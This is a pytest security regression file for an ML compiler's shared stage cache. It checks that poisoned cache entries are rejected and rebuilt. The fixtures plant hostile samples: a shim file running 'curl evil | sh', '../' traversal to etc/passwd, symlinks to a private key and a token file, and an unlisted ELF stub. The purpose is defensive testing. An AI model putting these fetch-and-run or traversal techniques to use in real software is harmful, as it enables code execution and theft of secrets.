"""A stage-cache entry is untrusted input: a poisoned export entry is a miss, and the bundle built is the real one.

The stage cache can be shared (``--cache-store``), so whoever writes the store writes the entries every build
copies into its bundles. ``cached_export`` copied an entry's ``files/`` with ``symlinks=True`` and trusted its
metadata: a symlink, a name with ``..`` or an absolute one, a ``model_file`` it did not list, a file it did
not list, or one under the shims' folder went into the bundle as it was (or crashed the build). An entry
whose ``entry.json`` could not be read was never replaced: the fresh export's rename failed, and the build
went on with the old folder's files and the new metadata. A store's objects were read whole into memory, and
an upload followed symlinks out of the entry.

Now ``read_export`` checks an entry with the rules of ``runtime_shims/bundle_files.py`` before anything is
copied, only listed regular files are copied (without following a link), a bad entry is discarded and the
model exported again, and the store's entries are read in bounded chunks and uploaded without following links.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import tracemalloc
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from edgec.cloud_sync.farm_store import ENTRY_MARKER, StoreEntries
from edgec.cloud_sync.store import open_store
from edgec.compiler.cache import META, META_MAX_BYTES, StageCache, scan
from edgec.compiler.cached_stages import FILES, cached_export, copy_files, read_export
from edgec.compiler.config import BuildConfig
from edgec.compiler.pipeline import build, get_target
from edgec.frameworks import onnx_utils
from edgec.runtime_shims import bundle_files
from edgec.targets.base import PrecisionRequest
from tests.support.models import make_conv_onnx

pytest.importorskip("onnx")

MIB = 1 << 20


@pytest.fixture
def first(tmp_path: Path) -> tuple[BuildConfig, Path, Path]:
    """The tiny CNN built once as an onnx fp32 bundle: (config, bundle, the export entry in the cache)."""
    config = BuildConfig(source=str(make_conv_onnx(tmp_path / "tiny.onnx")), target="onnx", precision="fp32",
                         out=tmp_path / "first", cache_dir=tmp_path / "cache", name="tiny")
    bundle = build(config).bundle_dir
    (entry,) = [e.path for e in scan(tmp_path / "cache").entries if e.kind == "export"]
    return config, bundle, entry


def rebuild(config: BuildConfig, out: Path) -> Path:
    return build(config.model_copy(update={"out": out})).bundle_dir


def edit_meta(entry: Path, **changes: Any) -> None:
    meta = json.loads((entry / META).read_text())
    (entry / META).write_text(json.dumps({**meta, **changes}))


def assert_is_the_real_bundle(bundle: Path, real: Path) -> None:
    """``bundle`` passes every manifest check, holds no symlink or unlisted file, and ships ``real``'s model."""
    manifest = json.loads((bundle / "manifest.json").read_text())
    assert bundle_files.check_bundle(str(bundle), manifest) == len(manifest["files"])
    found = set()
    for top, dirs, files in os.walk(bundle):
        for name in dirs + files:
            assert not os.path.islink(os.path.join(top, name)), f"{name} is a symlink"
        found |= {os.path.relpath(os.path.join(top, n), bundle) for n in files}
    assert found == {f["path"] for f in manifest["files"]} | {"manifest.json"}
    want = json.loads((real / "manifest.json").read_text())
    assert [(f["path"], f["sha256"]) for f in manifest["files"]] == [(f["path"], f["sha256"]) for f in want["files"]]
    assert (manifest["model_file"], manifest["inputs"], manifest["outputs"]) == \
           (want["model_file"], want["inputs"], want["outputs"])
    assert sorted(p.name for p in bundle.parent.iterdir()) == [bundle.name]  # nothing written beside it


def symlinked_model(entry: Path, outside: Path) -> None:
    """files/model.onnx becomes a link to a model outside the cache (a valid one: the build would ship the link)."""
    shutil.copyfile(entry / FILES / "model.onnx", outside / "elsewhere.onnx")
    (entry / FILES / "model.onnx").unlink()
    (entry / FILES / "model.onnx").symlink_to(outside / "elsewhere.onnx")


def symlinked_folder(entry: Path, outside: Path) -> None:
    """files/ itself becomes a link to a folder of the build machine: copytree followed it, shipping its files."""
    shutil.copytree(entry / FILES, outside / "elsewhere")
    (outside / "elsewhere" / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    shutil.rmtree(entry / FILES)
    (entry / FILES).symlink_to(outside / "elsewhere")


def dotdot_name(entry: Path, outside: Path) -> None:
    (entry / "stolen.txt").write_text("beside files/, not in it")
    edit_meta(entry, files=["model.onnx", "../stolen.txt"])


def absolute_name(entry: Path, outside: Path) -> None:
    (outside / "secret.txt").write_text("a file of the build machine")
    edit_meta(entry, files=["model.onnx", str(outside / "secret.txt")])


def model_not_listed(entry: Path, outside: Path) -> None:
    """model_file names a file the entry holds but does not list: the bundle would run an unlisted model."""
    shutil.copyfile(entry / FILES / "model.onnx", entry / FILES / "other.onnx")
    edit_meta(entry, model_file="other.onnx")


def unlisted_file(entry: Path, outside: Path) -> None:
    (entry / FILES / "payload.so").write_bytes(b"\x7fELF native code a loader might pick up")


def shim_name(entry: Path, outside: Path) -> None:
    """A listed file under edgec_shim/, the code that runs on devices (the build's own shims come after)."""
    (entry / FILES / "edgec_shim").mkdir()
    (entry / FILES / "edgec_shim" / "runners.py").write_text("import os; os.system('curl evil | sh')\n")
    edit_meta(entry, files=["model.onnx", "edgec_shim/runners.py"])


def bad_tensor_spec(entry: Path, outside: Path) -> None:
    meta = json.loads((entry / META).read_text())
    edit_meta(entry, inputs=[{**meta["inputs"][0], "shape": "1,3,8,8"}])


POISONS = [symlinked_model, symlinked_folder, dotdot_name, absolute_name, model_not_listed, unlisted_file,
           shim_name, bad_tensor_spec]


@pytest.mark.parametrize("poison", POISONS, ids=lambda p: p.__name__.replace("_", "-"))
def test_a_poisoned_export_entry_is_a_miss_and_the_bundle_is_the_real_one(
        first: tuple[BuildConfig, Path, Path], tmp_path: Path, poison: Callable[[Path, Path], None]) -> None:
    config, real, entry = first
    (tmp_path / "outside").mkdir()
    poison(entry, tmp_path / "outside")
    bundle = rebuild(config, tmp_path / "second")
    assert_is_the_real_bundle(bundle, real)
    assert read_export(entry, json.loads((entry / META).read_text())) is not None  # replaced by a clean entry
    again = build(config.model_copy(update={"out": tmp_path / "third"}))
    assert again.cache_misses == 0  # ... which the next build uses
    assert_is_the_real_bundle(again.bundle_dir, real)


def test_an_unreadable_entry_over_tampered_files_is_replaced_not_mixed_with_the_fresh_meta(
        first: tuple[BuildConfig, Path, Path], tmp_path: Path) -> None:
    """The fresh export's rename used to fail over the bad entry, and the build shipped the old folder's files."""
    config, real, entry = first
    (entry / META).write_text("{not json")
    (entry / FILES / "model.onnx").write_bytes(b"a model nobody exported")
    bundle = rebuild(config, tmp_path / "second")
    assert_is_the_real_bundle(bundle, real)
    assert (entry / FILES / "model.onnx").read_bytes() == (real / "model.onnx").read_bytes()
    assert not [p for p in entry.parent.iterdir() if p.name.startswith(".")]  # the bad one is gone, not set aside


def produce_model(folder: Path) -> dict[str, Any]:
    (folder / "model.bin").write_bytes(b"fresh")
    return {"made": "now"}


@pytest.mark.parametrize("meta", [b"{not json", b"[1, 2]", b" " * (META_MAX_BYTES + 1) + b"{}"],
                         ids=["corrupt", "not-an-object", "oversized"])
def test_get_or_create_replaces_an_entry_whose_meta_cannot_be_read(tmp_path: Path, meta: bytes) -> None:
    cache = StageCache(tmp_path / "cache")
    key = "ab" * 32
    old = tmp_path / "cache" / key[:2] / key
    old.mkdir(parents=True)
    (old / META).write_bytes(meta)
    (old / "model.bin").write_bytes(b"stale")
    entry, got, hit = cache.get_or_create(key, produce_model)
    assert (entry, got, hit) == (old, {"made": "now"}, False)
    assert (entry / "model.bin").read_bytes() == b"fresh"
    assert cache.get_or_create(key, produce_model)[1:] == ({"made": "now"}, True)


def test_a_poisoned_entry_a_store_keeps_serving_is_exported_outside_the_cache(tmp_path: Path) -> None:
    """The bad entry is discarded, fetched again (still bad), discarded, then the target exports into the work folder."""
    artifact = onnx_utils.artifact_from_file(make_conv_onnx(tmp_path / "tiny.onnx"))
    target, request = get_target("onnx"), PrecisionRequest("fp32")
    args: tuple[Any, ...] = (target, artifact, request, {})
    remote = StoreEntries(open_store(tmp_path / "shared"))
    (tmp_path / "clean").mkdir()
    real, _ = cached_export(StageCache(tmp_path / "machine-a", remote=remote), *args, tmp_path / "clean", tmp_path,
                            lambda m: None)
    store = open_store(tmp_path / "shared")
    (marker_key,) = [m.key for m in store.list("") if m.key.endswith(ENTRY_MARKER)]
    prefix = marker_key[: -len(ENTRY_MARKER)]
    meta = json.loads(store.get(prefix + META))
    store.put(prefix + META, json.dumps({**meta, "files": ["model.onnx", "../" * 8 + "etc/passwd"]}).encode())
    marker = json.loads(store.get(marker_key))
    marker["files"][META] = hashlib.sha256(store.get(prefix + META)).hexdigest()
    store.put(marker_key, json.dumps(marker).encode())
    (tmp_path / "staging").mkdir()
    cache = StageCache(tmp_path / "machine-b", remote=remote)
    result, hit = cached_export(cache, *args, tmp_path / "staging", tmp_path, lambda m: None)
    assert not hit and result == real
    assert sorted(os.listdir(tmp_path / "staging")) == ["model.onnx"]
    assert (tmp_path / "staging" / "model.onnx").read_bytes() == (tmp_path / "clean" / "model.onnx").read_bytes()


def test_a_large_object_in_a_store_entry_is_downloaded_in_bounded_chunks(tmp_path: Path) -> None:
    """A store's entry file was read whole into memory (a 96 MiB object: 96 MiB allocated); now 16 MiB ranges."""
    payload = os.urandom(MIB) * 96
    remote = StoreEntries(open_store(tmp_path / "shared"))

    def produce(folder: Path) -> dict[str, Any]:
        (folder / "weights.bin").write_bytes(payload)
        return {"size": len(payload)}

    StageCache(tmp_path / "machine-a", remote=remote).get_or_create("cd" * 32, produce)
    tracemalloc.start()
    try:
        entry, meta, hit = StageCache(tmp_path / "machine-b", remote=remote).get_or_create("cd" * 32, produce_model)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert hit and meta == {"size": len(payload)} and (entry / "weights.bin").read_bytes() == payload
    assert peak < 48 * MIB, f"downloading the entry allocated {peak / MIB:.0f} MiB"


def test_uploading_an_entry_never_follows_a_symlink_out_of_it(tmp_path: Path) -> None:
    """A link in a local entry used to upload what it points at (here a secret of the build machine) to the store."""
    (tmp_path / "secret.txt").write_text("token=hunter2")
    entry = tmp_path / "entry"
    (entry / FILES).mkdir(parents=True)
    (entry / FILES / "model.onnx").write_bytes(b"model")
    (entry / FILES / "leak.txt").symlink_to(tmp_path / "secret.txt")
    (entry / META).write_text("{}")
    StoreEntries(open_store(tmp_path / "shared")).store("ef" * 32, entry)
    store = open_store(tmp_path / "shared")
    keys = sorted(m.key.split("/", 2)[2] for m in store.list(""))
    assert keys == [ENTRY_MARKER, META, f"{FILES}/model.onnx"]
    assert not any(b"hunter2" in store.get(m.key) for m in store.list(""))


# -- controls: genuine entries keep working ------------------------------------------------------------------


def test_a_genuine_export_entry_is_a_hit_and_ships_the_same_bytes(first: tuple[BuildConfig, Path, Path],
                                                                  tmp_path: Path) -> None:
    config, real, _ = first
    again = build(config.model_copy(update={"out": tmp_path / "second"}))
    assert again.cache_misses == 0
    assert_is_the_real_bundle(again.bundle_dir, real)


def test_a_model_folder_of_listed_files_is_accepted_and_copied_exactly(tmp_path: Path) -> None:
    """A Core ML package: ``model_file`` is a folder whose files are listed one by one."""
    files = ["model.mlpackage/Manifest.json", "model.mlpackage/Data/weights/weight.bin"]
    for name in files:
        (tmp_path / "entry" / FILES / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / "entry" / FILES / name).write_text(name)
    spec = {"name": "x", "shape": [None, 3, "h", 8], "dtype": "float32", "layout": "NCHW"}
    result = read_export(tmp_path / "entry", {"model_file": "model.mlpackage", "files": files, "inputs": [spec],
                                              "outputs": [], "details": {}})
    assert result is not None and result.inputs[0].shape == (None, 3, "h", 8)
    copy_files(tmp_path / "entry" / FILES, result.files, tmp_path / "staging")
    assert sorted(str(p.relative_to(tmp_path / "staging")) for p in (tmp_path / "staging").rglob("*") if p.is_file()) \
           == sorted(files)


def test_another_builds_readable_entry_stored_first_is_kept(tmp_path: Path) -> None:
    cache = StageCache(tmp_path / "cache")
    key = "12" * 32
    theirs = tmp_path / "cache" / key[:2] / key

    def produce_racing(folder: Path) -> dict[str, Any]:
        theirs.mkdir(parents=True)
        (theirs / "model.bin").write_bytes(b"theirs")
        (theirs / META).write_text(json.dumps({"made": "by them"}))
        return produce_model(folder)

    entry, meta, hit = cache.get_or_create(key, produce_racing)
    assert (entry, meta, hit) == (theirs, {"made": "by them"}, False)
    assert (entry / "model.bin").read_bytes() == b"theirs"
    assert sorted(p.name for p in theirs.parent.iterdir()) == [key]  # ours was removed
